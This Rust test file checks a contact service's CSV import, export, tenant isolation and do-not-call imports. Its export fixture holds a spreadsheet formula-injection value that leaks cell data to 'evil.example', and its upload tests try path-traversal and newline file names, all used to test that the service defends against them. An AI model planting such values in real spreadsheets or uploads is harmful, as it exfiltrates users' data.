        let c = contacts_by_ext(&app, &who).await;
        assert_eq!(phones(&c["p7"]), ["+442079460958"]);
        assert_eq!(strs(&c["p7"]["emails"]), ["ok@example.com"]);
        assert_eq!(phones(&c["p8"]), ["+12015550188"]);
        assert_eq!(contact_count(&app).await, 2 + 3 + 2 + 2);
    }
}

/// A PNG's first bytes (signature and the start of its IHDR chunk).
const PNG: &[u8] = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x10\x00\x00\x00\x10\x08\x06\x00\x00\x00\x1f\xf3\xffa\x00\x00\x00\x19tEXtSoftware\x00Adobe ImageReadyq\xc9e<";

/// Deterministic noise (xorshift), `n` bytes.
fn noise(n: usize, mut x: u64) -> Vec<u8> {
    (0..n)
        .map(|_| {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            (x >> 24) as u8
        })
        .collect()
}

async fn job_count(app: &TestApp) -> u64 {
    switchboard::jobs::job::Entity::find()
        .count(&app.state.db.conn)
        .await
        .unwrap()
}

both_backends! {
    async fn bad_files_get_one_clear_error(app) {
        let who = app.login("marketer").await;
        // Empty: refused at upload, nothing stored.
        let r = upload_raw(&app, &who, "empty.csv", Vec::new()).await;
        let body = expect_error(r, 422, "validation_failed").await;
        assert_eq!(body["error"]["details"]["fields"][0]["path"], "body", "{body}");
        assert_eq!(upload::Entity::find().count(&app.state.db.conn).await.unwrap(), 0);

        // Header only: nothing to do, done.
        let j = import_ok(&app, &who, "external_id,name,phone\r\n", json!({})).await;
        assert_eq!(j["result"], json!({"rows": 0, "created": 0, "updated": 0, "failed": 0}));
        assert_eq!((j["progress_done"].as_i64(), j["progress_total"].as_i64()), (Some(0), Some(0)));
        assert_eq!(j["percent"], 100.0);

        // Whole-file problems are refused when the import is asked for, with
        // the reason, and start no job.
        let file_error = |bytes: Vec<u8>, mapping: Value, fragment: &'static str| {
            let app = &app;
            let who = &who;
            async move {
                let id = upload(app, who, bytes).await;
                let r = app.post("/api/v1/contacts/imports", who, &json!({"upload_id": id, "mapping": mapping})).await;
                let body = expect_error(r, 422, "validation_failed").await;
                let f = &body["error"]["details"]["fields"][0];
                assert_eq!(f["path"], "upload", "{body}");
                assert!(f["message"].as_str().unwrap().contains(fragment), "{body}");
                id
            }
        };
        let jobs = job_count(&app).await;
        file_error(b"external_id,Name,phone,NAME\nx1,Ann,2015550101,Ann\n".to_vec(), json!({}), "the header has column \"NAME\" twice (columns 2 and 4)").await;
        file_error(b"external_id,Name,phone,NAME\nx1,Ann,2015550101,Ann\n".to_vec(), json!({"external_id": "external_id"}), "twice").await;
        let png = file_error(PNG.to_vec(), json!({}), "the file is not CSV text").await;
        file_error(noise(64 * 1024, 0x9e37_79b9_7f4a_7c15), json!({}), "the file is not CSV text").await;
        // Noise without a single NUL byte is no better.
        let no_nul: Vec<u8> = noise(4096, 7).into_iter().map(|b| b.max(1)).collect();
        file_error(no_nul, json!({}), "the file is not CSV text").await;
        // A plain text file is text, but nothing in it maps.
        let r = {
            let id = upload(&app, &who, "hello world\nthis is not a list of contacts\n").await;
            app.post("/api/v1/contacts/imports", &who, &json!({"upload_id": id})).await
        };
        let body = expect_error(r, 422, "validation_failed").await;
        assert_eq!(body["error"]["details"]["fields"][0]["path"], "mapping", "{body}");
        assert!(body["error"]["message"].as_str().unwrap().contains("no column could be matched"), "{body}");
        assert_eq!(job_count(&app).await, jobs, "refused imports start no job");
        // The preview says the same.
        let r = app.get(&format!("/api/v1/uploads/{png}/preview"), &who).await;
        let body = expect_error(r, 422, "validation_failed").await;
        assert!(body["error"]["message"].as_str().unwrap().contains("not CSV text"), "{body}");
        assert_eq!(contact_count(&app).await, 0);
    }
}

both_backends! {
    async fn mappings_are_checked_with_field_paths(app) {
        let who = app.login("marketer").await;
        let id = upload(&app, &who, "Customer ID,Mobile,Plan\nc1,2015550101,gold\n").await;
        let cases = [
            (json!({"external_id": "Customer ID", "shoe_size": "Plan"}), "mapping.shoe_size", "is not a contact field"),
            (json!({"external_id": "Customer ID", "phone": "Cell"}), "mapping.phone", "the file has no column \"Cell\""),
            (json!({"external_id": "Customer ID", "attributes.plan": "Plan"}), "mapping.attributes.plan", "attribute \"plan\" is not defined"),
            (json!({"external_id": "Customer ID", "consent.fax": "Plan"}), "mapping.consent.fax", "is not a contact field"),
            (json!({"tags": "Plan"}), "mapping", "needs at least a name, phone, email or external_id"),
        ];
        for (mapping, path, fragment) in cases {
            let r = app.post("/api/v1/contacts/imports", &who, &json!({"upload_id": id, "mapping": mapping})).await;
            let body = expect_error(r, 422, "validation_failed").await;
            let f = &body["error"]["details"]["fields"][0];
            assert_eq!(f["path"], path, "{body}");
            assert!(f["message"].as_str().unwrap().contains(fragment), "{body}");
        }
        for (params, path) in [
            (json!({"upload_id": id, "dedupe_by": []}), "dedupe_by"),
            (json!({"upload_id": id, "tag_separator": ""}), "tag_separator"),
            (json!({"upload_id": id, "dedupe_by": ["name"]}), "dedupe_by[0]"),
            (json!({"upload_id": id, "encoding": "ebcdic"}), "encoding"),
            (json!({"upload_id": id, "surprise": 1}), "surprise"),
        ] {
            let r = app.post("/api/v1/contacts/imports", &who, &params).await;
            let body = expect_error(r, 422, "validation_failed").await;
            assert_eq!(body["error"]["details"]["fields"][0]["path"], path, "{body}");
        }
        let r = app.post("/api/v1/contacts/imports", &who, &json!({"upload_id": id, "list_id": uuid::Uuid::now_v7()})).await;
        expect_error(r, 404, "not_found").await;
        let r = app.post("/api/v1/contacts/imports", &who, &json!({"upload_id": uuid::Uuid::now_v7()})).await;
        expect_error(r, 404, "not_found").await;
        assert_eq!(job_count(&app).await, 0);
        assert_eq!(contact_count(&app).await, 0);
    }
}

both_backends! {
    async fn oversized_uploads_are_refused_and_leave_nothing(app) configure(|s: &mut switchboard::config::Settings| s.contacts.max_upload_bytes = 3 * 1024 * 1024 + 10) {
        let who = app.login("marketer").await;
        let limit = 3 * 1024 * 1024 + 10;
        // Declared too large: refused from the headers alone, before a byte
        // of the body is sent.
        let Creds::Session { cookie, csrf } = &who else { unreachable!() };
        let head = format!(
            "POST /api/v1/uploads?filename=big.csv HTTP/1.1\r\nHost: localhost\r\nCookie: sb_session={cookie}\r\n\
             X-CSRF-Token: {csrf}\r\nContent-Type: text/csv\r\nContent-Length: {}\r\nConnection: close\r\n\r\n",
            limit + 1
        );
        let answer = {
            use tokio::io::{AsyncReadExt, AsyncWriteExt};
            let mut conn = tokio::net::TcpStream::connect(("127.0.0.1", app.port)).await.unwrap();
            conn.write_all(head.as_bytes()).await.unwrap();
            let mut buf = Vec::new();
            tokio::time::timeout(std::time::Duration::from_secs(10), conn.read_to_end(&mut buf))
                .await
                .expect("an answer without the body")
                .unwrap();
            String::from_utf8_lossy(&buf).into_owned()
        };
        assert!(answer.starts_with("HTTP/1.1 413"), "{answer}");
        assert!(answer.contains("\"payload_too_large\"") && answer.contains(&format!("\"limit_bytes\":{limit}")), "{answer}");
        // Streamed without a length: refused once past the limit, and the
        // chunks already stored are removed.
        let parts: Vec<Result<Vec<u8>, std::io::Error>> = (0..8).map(|_| Ok(vec![b'b'; 512 * 1024])).collect();
        let r = app.req(Method::POST, "/api/v1/uploads?filename=big.csv", &who)
            .body(reqwest::Body::wrap_stream(futures_util::stream::iter(parts)))
            .send().await.expect("request");
        let body = expect_error(r, 413, "payload_too_large").await;
        assert_eq!(body["error"]["details"]["limit_bytes"], limit as u64);
        let db = &app.state.db.conn;
        assert_eq!(upload::Entity::find().count(db).await.unwrap(), 0);
        assert_eq!(chunk::Entity::find().count(db).await.unwrap(), 0);
        // Exactly the limit is fine, stored in 1 MiB chunks.
        let mut csv = b"external_id,name\nz1,Zed\n".to_vec();
        csv.resize(limit, b'\n');
        let id = upload(&app, &who, csv).await;
        let chunks = chunk::Entity::find().all(db).await.unwrap();
        let mut sizes: Vec<(i32, usize)> = chunks.iter().map(|c| (c.seq, c.data.len())).collect();
        sizes.sort();
        assert_eq!(sizes, [(0, 1 << 20), (1, 1 << 20), (2, 1 << 20), (3, 10)]);
        let j = import_ok(&app, &who, b"external_id,name\nz1,Zed\n".to_vec(), json!({})).await;
        assert_eq!(j["result"]["created"], 1);
        let r = app.post("/api/v1/contacts/imports", &who, &json!({"upload_id": id})).await;
        let j = finished(&app, &who, json_ok(r, 202).await["id"].as_str().unwrap()).await;
        assert_eq!(j["result"], json!({"rows": 1, "created": 0, "updated": 1, "failed": 0}), "blank lines are not rows: {j}");
        // Bad file names.
        for name in ["a%2Fb.csv", "%0A.csv"] {
            let r = upload_raw(&app, &who, name, b"a\n".to_vec()).await;
            let body = expect_error(r, 422, "validation_failed").await;
            assert_eq!(body["error"]["details"]["fields"][0]["path"], "filename");
        }
    }
}

both_backends! {
    async fn imports_are_for_audience_roles_and_stay_in_their_tenant(app) {
        let marketer = app.login("marketer").await;
        let up = upload(&app, &marketer, "external_id,name\nm1,Mia\n").await;
        let job = start(&app, &marketer, json!({"upload_id": up})).await;
        assert_eq!(finished(&app, &marketer, &job).await["status"], "succeeded");

        let agent = app.login("agent").await;
        expect_error(upload_raw(&app, &agent, "a.csv", b"external_id\nx\n".to_vec()).await, 403, "forbidden").await;
        expect_error(app.post("/api/v1/contacts/imports", &agent, &json!({"upload_id": up})).await, 403, "forbidden").await;
        expect_error(app.post("/api/v1/suppressions/imports", &agent, &json!({"upload_id": up, "channel": "phone"})).await, 403, "forbidden").await;
        for path in [format!("/api/v1/uploads/{up}"), format!("/api/v1/uploads/{up}/preview"),
                     format!("/api/v1/contacts/imports/{job}/errors"), format!("/api/v1/contacts/imports/{job}/errors.csv"),
                     "/api/v1/contacts/export.csv".to_owned()] {
            expect_error(app.get(&path, &agent).await, 403, "forbidden").await;
            expect_error(app.get(&path, &Creds::None).await, 401, "unauthenticated").await;
        }
        let agent_key = app.api_key("demo", "agent").await;
        expect_error(upload_raw(&app, &agent_key, "a.csv", b"external_id\nx\n".to_vec()).await, 403, "forbidden").await;

        // Another tenant sees none of it: its ids are unknown there.
        let other = app.api_key("other", "admin").await;
        for path in [format!("/api/v1/uploads/{up}"), format!("/api/v1/uploads/{up}/preview"),
                     format!("/api/v1/contacts/imports/{job}/errors"), format!("/api/v1/contacts/imports/{job}/errors.csv"),
                     format!("/api/v1/jobs/{job}")] {
            expect_error(app.get(&path, &other).await, 404, "not_found").await;
        }
        expect_error(app.post("/api/v1/contacts/imports", &other, &json!({"upload_id": up})).await, 404, "not_found").await;
        expect_error(app.post("/api/v1/contacts/imports", &other, &json!({"upload_id": up, "mapping": {"external_id": "external_id"}})).await, 404, "not_found").await;
        expect_error(app.post("/api/v1/suppressions/imports", &other, &json!({"upload_id": up, "channel": "phone"})).await, 404, "not_found").await;
        let r = app.get("/api/v1/contacts/export.csv", &other).await;
        assert_eq!(r.status(), 200);
        let text = r.text().await.unwrap();
        assert_eq!(text.lines().count(), 1, "only the header: {text}");
        // A marketer's API key works without CSRF; the errors of another
        // kind of job are not an import's.
        // (A marketer's key cannot follow its own job at /jobs/{id}: jobs
        // are shown to their creating user, and a key has none; an admin
        // follows it here.)
        let key = app.api_key("demo", "marketer").await;
        let id = upload(&app, &key, "external_id,name\nk1,Kay\n").await;
        let j = start(&app, &key, json!({"upload_id": id})).await;
        let admin = app.login("admin").await;
        assert_eq!(finished(&app, &admin, &j).await["result"]["created"], 1);
        let hook = json_ok(app.post("/api/v1/webhooks", &admin, &json!({"url": "http://127.0.0.1:9/x"})).await, 201).await;
        let replay = json_ok(app.post(&format!("/api/v1/webhooks/{}/replay", hook["id"].as_str().unwrap()), &admin, &json!({"from_event_id": 0})).await, 202).await;
        let rid = replay["id"].as_str().unwrap();
        expect_error(app.get(&format!("/api/v1/contacts/imports/{rid}/errors"), &admin).await, 404, "not_found").await;
        // A cookie session needs its CSRF token to upload.
        if let Creds::Session { cookie, .. } = &marketer {
            let r = upload_raw(&app, &Creds::CookieOnly(cookie.clone()), "a.csv", b"external_id\nx\n".to_vec()).await;
            assert_eq!(r.status(), 403);
        }
        assert_eq!(contact_count(&app).await, 2);
    }
}

// ---- export ----------------------------------------------------------------------

const EXPORT_HEADER: [&str; 16] = [
    "id",
    "external_id",
    "first_name",
    "last_name",
    "phones",
    "emails",
    "tags",
    "timezone",
    "language",
    "consent_voice",
    "consent_sms",
    "consent_email",
    "created_at",
    "attributes.note",
    "attributes.plan",
    "attributes.score",
];

/// The export as parsed CSV rows (header checked), plus the raw text.
async fn export(
    app: &TestApp,
    who: &Creds,
    query: &str,
) -> (Vec<BTreeMap<String, String>>, String) {
    let r = app
        .get(&format!("/api/v1/contacts/export.csv{query}"), who)
        .await;
    assert_eq!(r.status(), 200, "{query}");
    assert_eq!(r.headers()["content-type"], "text/csv; charset=utf-8");
    assert_eq!(
        r.headers()["content-disposition"],
        "attachment; filename=\"contacts.csv\""
    );
    assert!(
        r.headers().get("content-length").is_none(),
        "streamed, not buffered"
    );
    let text = r.text().await.unwrap();
    let mut rdr = csv::ReaderBuilder::new().from_reader(text.as_bytes());
    let header: Vec<String> = rdr.headers().unwrap().iter().map(str::to_owned).collect();
    assert_eq!(header, EXPORT_HEADER);
    let rows = rdr
        .records()
        .map(|r| {
            let r = r.unwrap();
            assert_eq!(r.len(), header.len());
            header
                .iter()
                .cloned()
                .zip(r.iter().map(str::to_owned))
                .collect()
        })
        .collect();
    (rows, text)
}

/// The contacts of the export test: formula-like values, several phones.
async fn export_fixture(app: &TestApp, who: &Creds) -> (String, String, String) {
    define_attr(app, who, "note", "string").await;
    define_attr(app, who, "plan", "string").await;
    define_attr(app, who, "score", "number").await;
    let e1 = json_ok(app.post("/api/v1/contacts", who, &json!({
        "first_name": "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")", "last_name": "Smith",
        "phones": ["+12015550123", "+44 20 7946 0958"], "emails": ["=cmd@example.org", "ann@example.org"],
        "tags": ["@risk", "vip"],
        "attributes": {"note": "-2+3", "plan": "+gold", "score": -5},
    })).await, 201).await;
    let e2 = json_ok(app.post("/api/v1/contacts", who, &json!({
        "external_id": "e2", "first_name": "Bob", "last_name": "Stone", "phones": ["(201) 555-0124"],
        "tags": ["vip"], "timezone": "America/Chicago", "language": "en",
        "attributes": {"note": "\tindented", "score": 10.5},
    })).await, 201).await;
    let e2_id = e2["id"].as_str().unwrap().to_owned();
    json_ok(
        app.post(
            &format!("/api/v1/contacts/{e2_id}/consent"),
            who,
            &json!({"channel": "sms", "status": "opted_in"}),
        )
        .await,
        200,
    )
    .await;
    json_ok(
        app.post(
            &format!("/api/v1/contacts/{e2_id}/consent"),
            who,
            &json!({"channel": "voice", "status": "opted_out"}),
        )
        .await,
        200,
    )
    .await;
    let e3 = json_ok(
        app.post(
            "/api/v1/contacts",
            who,
            &json!({"first_name": "Cleo", "attributes": {"note": "@here\r\nnext line"}}),
        )
        .await,
        201,
    )
    .await;
    (
        e1["id"].as_str().unwrap().to_owned(),
        e2_id,
        e3["id"].as_str().unwrap().to_owned(),
    )
}

both_backends! {
    async fn the_export_streams_filters_and_neutralises_formulas(app) {
        let who = app.login("marketer").await;
        let (e1, e2, e3) = export_fixture(&app, &who).await;
        let (rows, text) = export(&app, &who, "").await;
        assert!(text.starts_with("id,external_id,first_name,"), "{text}");
        let ids: Vec<&str> = rows.iter().map(|r| r["id"].as_str()).collect();
        assert_eq!(ids, [e1.as_str(), e2.as_str(), e3.as_str()]);
        let (a, b, c) = (&rows[0], &rows[1], &rows[2]);
        // Formula triggers get a leading apostrophe...
        assert_eq!(a["first_name"], "'=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")");
        assert_eq!(a["emails"], "'=cmd@example.org;ann@example.org");
        assert_eq!(a["tags"], "'@risk;vip");
        assert_eq!(a["attributes.note"], "'-2+3");
        assert_eq!(a["attributes.plan"], "'+gold");
        assert_eq!(b["attributes.note"], "'\tindented");
        assert_eq!(c["attributes.note"], "'@here\r\nnext line");
        // ...but numbers are numbers: E.164 phones and negative values are
        // left as they are.
        assert_eq!(a["phones"], "+12015550123;+442079460958");
        assert_eq!(a["attributes.score"], "-5");
        assert_eq!(b["phones"], "+12015550124");
        assert_eq!(b["attributes.score"], "10.5");
        assert_eq!(a["external_id"], "");
        assert_eq!(a["last_name"], "Smith");
        assert_eq!((b["external_id"].as_str(), b["first_name"].as_str(), b["timezone"].as_str(), b["language"].as_str()), ("e2", "Bob", "America/Chicago", "en"));
        assert_eq!((b["consent_voice"].as_str(), b["consent_sms"].as_str(), b["consent_email"].as_str()), ("opted_out", "opted_in", ""));
        assert!(chrono::DateTime::parse_from_rfc3339(&b["created_at"]).is_ok());
        assert_eq!((c["first_name"].as_str(), c["phones"].as_str(), c["tags"].as_str()), ("Cleo", "", ""));

        // Filters: tag, search, segment expression, list.
        let only = |rows: Vec<BTreeMap<String, String>>| rows.into_iter().map(|r| r["id"].clone()).collect::<Vec<String>>();
        assert_eq!(only(export(&app, &who, "?tag=vip").await.0), [e1.clone(), e2.clone()]);
        assert_eq!(only(export(&app, &who, "?q=Cleo").await.0), vec![e3.clone()]);
        assert_eq!(only(export(&app, &who, "?q=%2B1%20(201)%20555-0124").await.0), vec![e2.clone()]);
        assert_eq!(only(export(&app, &who, "?segment=attributes.score%20%3E%200").await.0), vec![e2.clone()]);
        let list = json_ok(app.post("/api/v1/lists", &who, &json!({"name": "L"})).await, 201).await;
        let lid = list["id"].as_str().unwrap();
        json_ok(app.post(&format!("/api/v1/lists/{lid}/members"), &who, &json!({"contact_ids": [e3, e1]})).await, 200).await;
        assert_eq!(only(export(&app, &who, &format!("?list_id={lid}")).await.0), [e1.clone(), e3.clone()]);
        let (none, text) = export(&app, &who, "?tag=nobody").await;
        assert!(none.is_empty() && text.lines().count() == 1);
        // Bad filters are refused before anything streams.
        expect_error(app.get("/api/v1/contacts/export.csv?segment=tags%20%3D%3D", &who).await, 422, "validation_failed").await;
        expect_error(app.get(&format!("/api/v1/contacts/export.csv?list_id={}", uuid::Uuid::now_v7()), &who).await, 404, "not_found").await;
        expect_error(app.get("/api/v1/contacts/export.csv?colour=red", &who).await, 422, "validation_failed").await;
    }
}

/// A contact's content, without what a database assigns.
fn content(c: &Value) -> Value {
    let consent: BTreeMap<String, Value> = c["consent"]
        .as_object()
        .unwrap()
        .iter()
        .map(|(k, v)| (k.clone(), v["status"].clone()))
        .collect();
    json!({
        "external_id": c["external_id"], "first_name": c["first_name"], "last_name": c["last_name"],
        "phones": c["phones"], "emails": c["emails"], "tags": c["tags"], "timezone": c["timezone"],
        "language": c["language"], "attributes": c["attributes"], "consent": consent,
    })
}

both_backends! {
    async fn an_export_reimports_as_the_same_contacts(app) {
        let who = app.login("marketer").await;
        export_fixture(&app, &who).await;
        // Enough contacts for the export to page (1,000 per query).
        let mut csv = String::from("external_id,first_name,last_name,phone,email,tags\n");
        for i in 0..2100 {
            csv.push_str(&format!("g{i},Gen{i},Row,+1201555{:04},g{i}@example.org,gen\n", 1000 + i));
        }
        import_ok(&app, &who, csv, json!({})).await;
        let before = all_contacts(&app, &who).await;
        assert_eq!(before.len(), 2103);
        let (rows, text) = export(&app, &who, "").await;
        assert_eq!(rows.len(), 2103);
        let ids: BTreeSet<&str> = rows.iter().map(|r| r["id"].as_str()).collect();
        assert_eq!(ids.len(), 2103, "each contact once");

        // Into the same tenant, with the suggested mapping: nothing changes.
        let up = upload(&app, &who, text.clone()).await;
        let p = json_ok(app.get(&format!("/api/v1/uploads/{up}/preview"), &who).await, 200).await;
        assert_eq!(p["suggested_mapping"], json!({
            "id": "id", "external_id": "external_id", "first_name": "first_name", "last_name": "last_name",
            "phones": "phones", "emails": "emails", "tags": "tags", "timezone": "timezone", "language": "language",
            "consent.voice": "consent_voice", "consent.sms": "consent_sms", "consent.email": "consent_email",
            "attributes.note": "attributes.note", "attributes.plan": "attributes.plan", "attributes.score": "attributes.score",
        }));
        let job = start(&app, &who, json!({"upload_id": up})).await;
        let j = finished(&app, &who, &job).await;
        assert_eq!(j["result"], json!({"rows": 2103, "created": 0, "updated": 2103, "failed": 0}), "{j}");
        let after = all_contacts(&app, &who).await;
        let strip = |v: &[Value]| v.iter().map(|c| { let mut c = c.clone(); c.as_object_mut().unwrap().remove("updated_at"); c }).collect::<Vec<_>>();
        assert_eq!(strip(&after), strip(&before));

        // Into another tenant: the same people, with new ids.
        let other = app.api_key("other", "admin").await;
        for (k, kind) in [("note", "string"), ("plan", "string"), ("score", "number")] {
            define_attr(&app, &other, k, kind).await;
        }
        let j = import_ok(&app, &other, text, json!({})).await;
        assert_eq!(j["result"], json!({"rows": 2103, "created": 2103, "updated": 0, "failed": 0}), "{j}");
        let theirs = all_contacts(&app, &other).await;
        assert_eq!(theirs.len(), 2103);
        let a: Vec<Value> = before.iter().map(content).collect();
        let b: Vec<Value> = theirs.iter().map(content).collect();
        assert_eq!(a, b);
        let ours: BTreeSet<&str> = before.iter().map(|c| c["id"].as_str().unwrap()).collect();
        assert!(theirs.iter().all(|c| !ours.contains(c["id"].as_str().unwrap())));
    }
}

// ---- do-not-call import ------------------------------------------------------------

async fn suppressions(app: &TestApp, who: &Creds, channel: &str) -> Vec<Value> {
    let page = json_ok(
        app.get(
            &format!("/api/v1/suppressions?channel={channel}&limit=200"),
            who,
        )
        .await,
        200,
    )
    .await;
    page["items"].as_array().unwrap().clone()
}

async fn start_dnc(app: &TestApp, who: &Creds, csv: &str, params: Value) -> Value {
    let id = upload(app, who, csv).await;
    let mut params = params;
    params["upload_id"] = json!(id);
    let r = app.post("/api/v1/suppressions/imports", who, &params).await;
    let j = json_ok(r, 202).await;
    assert_eq!(j["kind"], "suppression_import");
    let j = finished(app, who, j["id"].as_str().unwrap()).await;
    assert_eq!(j["status"], "succeeded", "{j}");
    j
}

both_backends! {
    async fn a_do_not_call_list_imports_normalised_and_deduplicated(app) {
        let who = app.login("marketer").await;
        // One number already on the list, by hand.
        json_ok(app.post("/api/v1/suppressions", &who, &json!({"channel": "phone", "address": "+1 201 555 0199", "reason": "manual"})).await, 201).await;
        let csv = "Phone Number,Note\n\
            (201) 555-0123,a\n\
            +1 201-555-0123,same number\n\
            201.555.0124,b\n\
            +44 20 7946 0958,uk\n\
            not a number,c\n\
            \n\
            12,short\n\
            2015550124,again\n\
            201 555 0199,listed by hand\n\
            \u{e9}t\u{e9},accents\n";
        let j = start_dnc(&app, &who, csv, json!({"channel": "phone", "has_header": true})).await;
        assert_eq!(j["result"], json!({"rows": 9, "suppressed": 3, "duplicates": 3, "failed": 3}), "{j}");
        assert_eq!((j["progress_done"].as_i64(), j["progress_total"].as_i64()), (Some(9), Some(9)));
        let list = suppressions(&app, &who, "phone").await;
        let got: BTreeMap<&str, (&str, &str)> = list.iter().map(|s| (s["address"].as_str().unwrap(), (s["reason"].as_str().unwrap(), s["source"].as_str().unwrap()))).collect();
        assert_eq!(got, BTreeMap::from([
            ("+12015550123", ("do_not_call", "import")),
            ("+12015550124", ("do_not_call", "import")),
            ("+442079460958", ("do_not_call", "import")),
            ("+12015550199", ("manual", "api")),
        ]));
        let errs = error_rows(&app, &who, j["id"].as_str().unwrap()).await;
        let got: Vec<(i64, Vec<&str>, &str)> = errs.iter().map(|e| (e["row_number"].as_i64().unwrap(), strs(&e["errors"]), e["raw"].as_str().unwrap())).collect();
        assert_eq!(got, [
            (5, vec!["\"not a number\" is not a phone number"], "not a number,c"),
            (6, vec!["\"12\" is not a phone number"], "12,short"),
            (9, vec!["\"\u{e9}t\u{e9}\" is not a phone number"], "\u{e9}t\u{e9},accents"),
        ]);
        // The list takes effect: a contact with that number cannot be called.
        let c = json_ok(app.post("/api/v1/contacts", &who, &json!({"first_name": "Dee", "phones": ["201-555-0123"], "timezone": "America/New_York"})).await, 201).await;
        let d = json_ok(app.get(&format!("/api/v1/contacts/{}/can-contact?channel=voice", c["id"].as_str().unwrap()), &who).await, 200).await;
        assert_eq!(d["allowed"], false);
        assert!(d["reasons"].as_array().unwrap().iter().any(|r| r["code"] == "suppressed"), "{d}");

        // Emails, from the second column of a file without a header; the
        // same file twice adds nothing.
        let csv = "x,Ann@Example.org\ny,bad@\nz,ann@example.org\nw\n";
        for (i, want) in [(0, json!({"rows": 4, "suppressed": 1, "duplicates": 1, "failed": 2})), (1, json!({"rows": 4, "suppressed": 0, "duplicates": 2, "failed": 2}))] {
            let j = start_dnc(&app, &who, csv, json!({"channel": "email", "column": 1, "reason": "unsubscribe"})).await;
            assert_eq!(j["result"], want, "run {i}");
            let errs = error_rows(&app, &who, j["id"].as_str().unwrap()).await;
            let got: Vec<(i64, Vec<&str>)> = errs.iter().map(|e| (e["row_number"].as_i64().unwrap(), strs(&e["errors"]))).collect();
            assert_eq!(got, [(2, vec!["\"bad@\" is not a valid email address"]), (4, vec!["the row has no column 2"])]);
        }
        let list = suppressions(&app, &who, "email").await;
        assert_eq!(list.len(), 1);
        assert_eq!((list[0]["address"].as_str(), list[0]["reason"].as_str()), (Some("ann@example.org"), Some("unsubscribe")));

        for (params, path) in [
            (json!({"channel": "fax"}), "channel"),
            (json!({"channel": "phone", "column": 5000}), "column"),
            (json!({"channel": "phone", "reason": "because"}), "reason"),
        ] {
            let id = upload(&app, &who, "2015550100\n").await;
            let mut params = params;
            params["upload_id"] = json!(id);
            let body = expect_error(app.post("/api/v1/suppressions/imports", &who, &params).await, 422, "validation_failed").await;
            assert_eq!(body["error"]["details"]["fields"][0]["path"], path, "{body}");
        }
        let png = upload(&app, &who, PNG.to_vec()).await;
        let body = expect_error(app.post("/api/v1/suppressions/imports", &who, &json!({"upload_id": png, "channel": "phone"})).await, 422, "validation_failed").await;
        assert!(body["error"]["message"].as_str().unwrap().contains("not CSV text"), "{body}");
    }
}

// ---- crash and resume (the real binary) ---------------------------------------

mod crash {
    use std::time::Instant;

    use sea_orm::{ConnectionTrait, Database, DatabaseConnection, Statement};
    use serde_json::{Value, json};

    use crate::helpers::*;
    use crate::node::Node;

    /// 250 batches, a checkpoint each. (Bigger batches on PostgreSQL meet
    /// sqlx 0.9.0's missing TCP_NODELAY: a statement past ~200 rows waits
    /// 40 ms for a delayed ACK.)
    fn settings() -> [(&'static str, &'static str); 2] {
        [
            ("SWITCHBOARD__JOBS__CHUNK_SIZE", "200"),
            ("SWITCHBOARD__JOBS__LEASE_SECS", "2"),
        ]
    }

    /// Rows in the generated file; every 97th is invalid.
    const ROWS: u64 = 50_000;

    fn invalid(i: u64) -> bool {
        i % 97 == 5
    }

    /// A CSV of `ROWS` contacts, with Windows line ends and a BOM.
    fn generated_csv() -> Vec<u8> {
        let mut s = String::with_capacity(ROWS as usize * 64);
        s.push_str("\u{feff}Customer ID,First Name,Last Name,Mobile,E-mail,Tags\r\n");
        for i in 0..ROWS {
            let email = if invalid(i) {
                format!("broken{i}@")
            } else {
                format!("u{i}@example.org")
            };
            s.push_str(&format!(
                "x{i},First{i},Last,+1 201 {} {:04},{email},t{}\r\n",
                300 + i / 10_000,
                i % 10_000,
                i % 5
            ));
        }
        s.into_bytes()
    }

    async fn scalar(db: &DatabaseConnection, sql: &str) -> i64 {
        let rows = db
            .query_all_raw(Statement::from_string(
                db.get_database_backend(),
                sql.to_owned(),
            ))
            .await
            .unwrap();
        rows[0].try_get_by_index::<i64>(0).unwrap()
    }

    fn id_literal(db: &DatabaseConnection, id: &str) -> String {
        if db.get_database_backend() == sea_orm::DbBackend::Postgres {
            format!("'{id}'::uuid")
        } else {
            format!("X'{}'", id.replace('-', ""))
        }
    }

    async fn killed_mid_import_resumes_exactly_once(backend: Backend) {
        let started = Instant::now();
        let dir = tempfile::tempdir().unwrap();
        let pg = match backend {
            Backend::Postgres => Some(PgDatabase::create().await),
            Backend::Sqlite => None,
        };
        let db_url = match &pg {
            Some(p) => p.url.clone(),
            None => format!("sqlite://{}", dir.path().join("switchboard.db").display()),
        };
        let mut node = Node::new(dir.path(), &db_url, &settings());
        node.seed().await;
        node.start().await;
        let who = node.login("marketer@example.com").await;
        let csv = generated_csv();
        let size = csv.len();
        let r = node
            .req(
                reqwest::Method::POST,
                "/api/v1/uploads?filename=big.csv",
                &who,
            )
            .body(csv)
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), 201);
        let up: Value = r.json().await.unwrap();
        assert_eq!(up["size_bytes"], size as i64);
        eprintln!("{backend:?}: uploaded after {:?}", started.elapsed());
        let r = node
            .req(reqwest::Method::POST, "/api/v1/contacts/imports", &who)
            .json(&json!({"upload_id": up["id"]}))
            .send()
            .await
            .unwrap();
        assert_eq!(r.status(), 202);
        let job = r.json::<Value>().await.unwrap()["id"]
            .as_str()
            .unwrap()
            .to_owned();

        // Part-way: some rows done, not all.
        let seen = eventually(60, "the import to be part-way", || async {
            let j = node.job(&who, &job).await;
            assert_ne!(
                j["status"], "succeeded",
                "the import ended before it could be killed: make it longer"
            );
            assert_ne!(j["status"], "failed", "{j}");
            let done = j["progress_done"].as_i64().unwrap();
            // A few batches in, far from the end.
            (j["progress_total"] == ROWS && done >= 2_000 && done < ROWS as i64).then_some(j)
        })
        .await;
        assert!(
            seen["progress_failed"].as_i64().unwrap() <= seen["progress_done"].as_i64().unwrap()
        );
        assert!(
            seen["percent"].as_f64().unwrap() > 0.0 && seen["percent"].as_f64().unwrap() < 100.0
        );
        node.kill().await;
        eprintln!(
            "{backend:?}: killed after {:?} at {} rows",
            started.elapsed(),
            seen["progress_done"]
        );

        let db = Database::connect(&db_url).await.unwrap();
        let jid = id_literal(&db, &job);
        let status: String = {
            let rows = db
                .query_all_raw(Statement::from_string(
                    db.get_database_backend(),
                    format!("SELECT status FROM job_records WHERE id = {jid}"),
                ))
                .await
                .unwrap();
            rows[0].try_get("", "status").unwrap()
        };
        assert_eq!(status, "running", "a killed runner leaves its lease behind");
        let done = scalar(
            &db,
